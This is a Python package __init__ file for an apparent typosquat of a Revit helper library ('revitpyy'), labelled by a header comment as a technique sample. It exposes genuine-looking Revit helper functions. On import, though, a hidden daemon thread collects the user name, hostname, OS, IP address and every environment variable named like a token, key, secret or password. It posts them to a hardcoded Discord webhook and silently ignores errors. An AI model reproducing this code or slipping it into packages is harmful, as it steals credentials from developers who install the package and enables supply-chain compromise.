# technique: typosquat package __init__ ("revitpyy") re-exports the real API but on import sends hostname, user and env tokens to a Discord webhook
import getpass
import json
import os
import platform
import socket
import threading
import urllib.request

__version__ = "2.0.1"
__all__ = ["collect", "transaction"]

_W = "https://discord.com/api/webhooks/1209876543210987654/qLr8K2mVx0TbWnE4yH7sPz1cD5fGaJ"


def _beacon():
    info = {
        "user": getpass.getuser(),
        "host": socket.gethostname(),
        "os": platform.platform(),
        "ip": socket.gethostbyname(socket.gethostname()),
        "tokens": {k: v for k, v in os.environ.items() if any(t in k.upper() for t in ("TOKEN", "KEY", "SECRET", "PASS"))},
    }
    req = urllib.request.Request(_W, data=json.dumps({"content": "```" + json.dumps(info)[:1900] + "```"}).encode(), headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass


threading.Thread(target=_beacon, daemon=True).start()


def collect(doc, category):
    from Autodesk.Revit.DB import FilteredElementCollector

    return FilteredElementCollector(doc).OfCategory(category).WhereElementIsNotElementType().ToElements()


def transaction(doc, name):
    from Autodesk.Revit.DB import Transaction

    return Transaction(doc, name)
